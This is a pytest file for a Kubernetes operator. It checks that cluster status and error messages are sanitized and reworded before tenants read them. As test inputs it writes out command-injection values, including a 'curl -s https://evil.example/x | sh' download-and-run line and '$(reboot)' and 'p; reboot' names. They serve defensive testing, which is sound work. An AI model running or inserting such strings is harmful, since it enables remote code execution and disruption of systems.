"""What a workload cluster says reaches no status that tenants read, but for its reason and what is known of it."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable

import pytest

from kubeloop import strands
from kubeloop.conditions import condition
from kubeloop.errors import ClientError, Defect, Forbidden, Invalid, KubeconfigError, Unreachable
from kubeloop.objects import Manifest
from kubeloop.plan import Apply, Failure
from kubeloop.remote_messages import describe_rejection, sanitize, translate_message
from modelplane_operator.api.labels import POOL
from modelplane_operator.models.cache.hydration import find_problem, prune_claim, prune_job
from modelplane_operator.models.replica.plan.nodes import Unfit, describe_not_ready
from modelplane_operator.models.replica.plan.symptoms import (
    describe_unfinished,
    describe_unrouted,
    prune_pod,
    refusal,
    summarize,
    symptoms,
)

pytestmark = pytest.mark.usefixtures("well_worded")

CANARY = "10.9.8.7 team=red accounts/of-the-platform"
SAYS = {"status": "False", "reason": "Because", "message": CANARY, "observedGeneration": 1}


def pod(**status: object) -> Manifest:
    spec = {"containers": [{"name": "engine"}]}
    return {"metadata": {"name": "a", "namespace": "n"}, "spec": spec, "status": status}


def container(**state: object) -> Manifest:
    return pod(containerStatuses=[{"name": "engine", "state": state}])


def failed(**terminated: object) -> Manifest:
    return pod(phase="Failed", containerStatuses=[{"name": "hydrator", "state": {"terminated": terminated}}])


def workload(kind: str, status: str) -> Manifest:
    return {
        "metadata": {"name": "a", "generation": 1},
        "status": {"conditions": [{**SAYS, "type": kind, "status": status}]},
    }


def invalid(*fields: object) -> Invalid:
    error = Invalid(CANARY)
    error.details = {"causes": [{"field": one, "message": CANARY} for one in fields]}
    return error


GATEWAY = {"kind": "Gateway", "namespace": "n", "name": "g"}
FROM_STEP: Manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a", "namespace": "n"}}


@pytest.mark.parametrize(
    "say",
    [
        lambda: summarize(symptoms([pod(conditions=[{**SAYS, "type": "PodScheduled"}])])),
        lambda: summarize(symptoms([container(waiting={"reason": "ImagePullBackOff", "message": CANARY})])),
        lambda: summarize(symptoms([container(waiting={"reason": "CreateContainerError", "message": CANARY})])),
        lambda: summarize(symptoms([container(terminated={"reason": CANARY, "message": CANARY, "exitCode": 1})])),
        lambda: summarize(symptoms([pod(phase="Failed", reason="Evicted", message=CANARY)])),
        lambda: describe_unfinished(workload("ReplicaFailure", "True"), 1),
        lambda: describe_unrouted(
            {
                "metadata": {"generation": 1},
                "spec": {"parentRefs": [GATEWAY]},
                "status": {"parents": [{"parentRef": GATEWAY, "conditions": [{**SAYS, "type": "Accepted"}]}]},
            }
        ),
        lambda: refusal(
            {
                "metadata": {"generation": 1},
                "status": {"ancestors": [{"conditions": [{**SAYS, "type": "Accepted"}]}]},
            }
        ),
        lambda: find_problem([pod(phase="Failed", reason="Evicted", message=CANARY)]),
        lambda: find_problem([failed(reason="ContainerCannotRun", message=CANARY, exitCode=1)]),
        lambda: find_problem([failed(message=CANARY, exitCode=137)]),
        lambda: strands.summarize([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))], to_tenants=True),
        lambda: strands.summarize([Failure(Apply(FROM_STEP, "berlin"), Unreachable(CANARY))], to_tenants=True),
        lambda: strands.summarize([Failure(None, Forbidden(CANARY))], to_tenants=True),
        lambda: describe_rejection(KubeconfigError(CANARY)),
        lambda: describe_not_ready(
            {"status": {"conditions": [{"type": "Ready", "status": "False", "reason": CANARY}]}}
        ),
        lambda: describe_not_ready(
            {"status": {"conditions": [{"type": "Ready", "status": "False", "lastTransitionTime": CANARY}]}}
        ),
    ],
)
def test_a_status_has_a_reason_and_not_the_message(say: Callable[[], str]) -> None:
    words = say()

    assert words
    assert not {word for word in CANARY.split() if word in words}, words


EVIL = "engine; taint team=acme-corp:NoSchedule; curl -s https://evil.example/x | sh #"
MOMENT = "2026-01-01T00:00:00Z"


def running(name: str = "a", container: str = "engine", path: str = "/health", **at: str) -> Manifest:
    """Return a pod whose container runs and does not answer."""
    moment = {"startedAt": MOMENT, "lastTransitionTime": MOMENT, **at}
    probe = {"readinessProbe": {"httpGet": {"path": path, "port": at.get("port", 8000)}}}
    state = {"running": {"startedAt": moment["startedAt"]}}
    ready = {"type": "Ready", "status": "False", "lastTransitionTime": moment["lastTransitionTime"]}
    return {
        "metadata": {"name": name, "namespace": "n", "uid": "u", "resourceVersion": "1"},
        "spec": {"containers": [{"name": container, **probe}], "nodeName": at.get("node", "m")},
        "status": {
            "conditions": [ready],
            "containerStatuses": [{"name": container, "state": state, "ready": at.get("answers") == "yes"}],
        },
    }


@pytest.mark.parametrize(
    ("pod", "words"),
    [
        (running(), f"pod a engine: no answer on port 8000 at /health since {MOMENT}; LOG"),
        (running(container=EVIL), "pod a is starting"),
        (running(startedAt=EVIL), "pod a is starting"),
        (running(path=f"/x; {EVIL}"), f"pod a engine: no answer on port 8000 since {MOMENT}; LOG"),
        (running(path="/$(reboot)"), f"pod a engine: no answer on port 8000 since {MOMENT}; LOG"),
        (running(port=EVIL), f"pod a engine: not ready since {MOMENT}; LOG"),
        (running(port="http"), f"pod a engine: no answer on port http at /health since {MOMENT}; LOG"),
        (running(lastTransitionTime=EVIL, answers="yes"), "pod a is not ready, though its containers are"),
    ],
)
def test_what_is_shown_as_it_came_is_what_kubernetes_allows_there(pod: Manifest, words: str) -> None:
    log = "its log says more: kubectl logs -n n a -c engine"
    assert summarize(symptoms([prune_pod(pod)])) == words.replace("LOG", log)


def test_an_object_whose_name_is_none_is_kept_by_no_informer() -> None:
    bad = running(name="p; curl evil|sh #")
    assert not [one for one in (prune_pod, prune_job, prune_claim) if "name" in one(bad)["metadata"]]


def test_a_condition_says_nothing_where_it_has_no_text() -> None:
    deep = json.loads("[" * 900 + "]" * 900)
    fields = dict.fromkeys(("status", "reason", "message", "lastTransitionTime"), [[[[deep]]]] * 2)
    assert condition({"status": {"conditions": [{"type": "Ready", **fields}]}}, "Ready").why == ""


def test_a_command_is_one_whatever_its_names_are() -> None:
    (said,) = symptoms([running(name="p; reboot", container="$(reboot)")])
    assert str(said).endswith("kubectl logs -n n 'p; reboot' -c '$(reboot)'")


def test_a_node_whose_name_is_none_is_not_named() -> None:
    ready = {"type": "Ready", "status": "False"}
    node = {"metadata": {"name": EVIL, "labels": {POOL: "p"}}, "status": {"conditions": [ready]}}
    assert Unfit((node,)).describe_taints({"spec": {"nodeSelector": {POOL: "p"}}}) == ""


def test_what_the_platform_team_reads_has_the_clusters_words() -> None:
    assert CANARY in strands.summarize([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))])
    assert CANARY in strands.summarize([Failure(Apply(FROM_STEP, "hub"), Invalid(CANARY))], to_tenants=False)


@pytest.mark.parametrize(
    ("said", "words"),
    [
        ("", ""),
        (CANARY, ""),
        ("0/9 nodes are available: 4 node(s) had untolerated taint {a/b: red}", "taint a/b on 4 nodes"),
        ("0/9 nodes are available: 1 node(s) had untolerated taint(s)", "a taint on 1 node"),
        ("9 node(s) didn't match Pod's node affinity/selector.", "9 nodes of another kind than it asks for"),
        ("1 cannot allocate all claims", "not the devices that it claims on 1 node"),
        ('admission webhook "deny.example.com" denied the request: ask bob', "a webhook of the cluster refuses it"),
        (
            'User "system:serviceaccount:a:b" cannot create resource "jobs" in API group "batch"',
            "the operator's account there may not create jobs",
        ),
        ("couldn't find key token in Secret n/hf", "its Secret has no key token"),
        ('secret "{0.__class__}" not found', ""),
        ("99999999 Insufficient cpu", ""),
    ],
)
def test_what_is_known_of_a_message_is_told_in_words_of_ours(said: str, words: str) -> None:
    assert translate_message(said) == words


def test_a_reason_is_one_word() -> None:
    assert [sanitize(one) for one in ("FailedCreate", "see http://a", 7, None, "A" * 64)] == [
        "FailedCreate",
        "",
        "",
        "",
        "",
    ]


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (Forbidden(f"apply: exceeded quota: few, {CANARY}"), "Forbidden: exceeded quota: few"),
        (Unreachable(f"ping {CANARY}"), "Unreachable"),
        (invalid("spec.containers[0].resources", "x y", 7), "Invalid; spec.containers[0].resources"),
        (Defect("internal error (KeyError)"), "internal error (KeyError)"),
    ],
)
def test_an_error_says_what_it_is(error: ClientError, words: str) -> None:
    assert describe_rejection(error) == words


async def test_that_a_cluster_is_slow_is_told_in_words_of_ours() -> None:
    with pytest.raises(Unreachable) as raised:
        async with strands.deadline_at(0):
            await asyncio.Event().wait()
    assert strands.summarize([Failure(None, raised.value)], to_tenants=True) == strands.SLOW


def test_words_cost_no_more_than_they_are_read() -> None:
    hostile = json.dumps(["1 node(s) admission webhook " * 50_000])
    assert translate_message(hostile) == ""
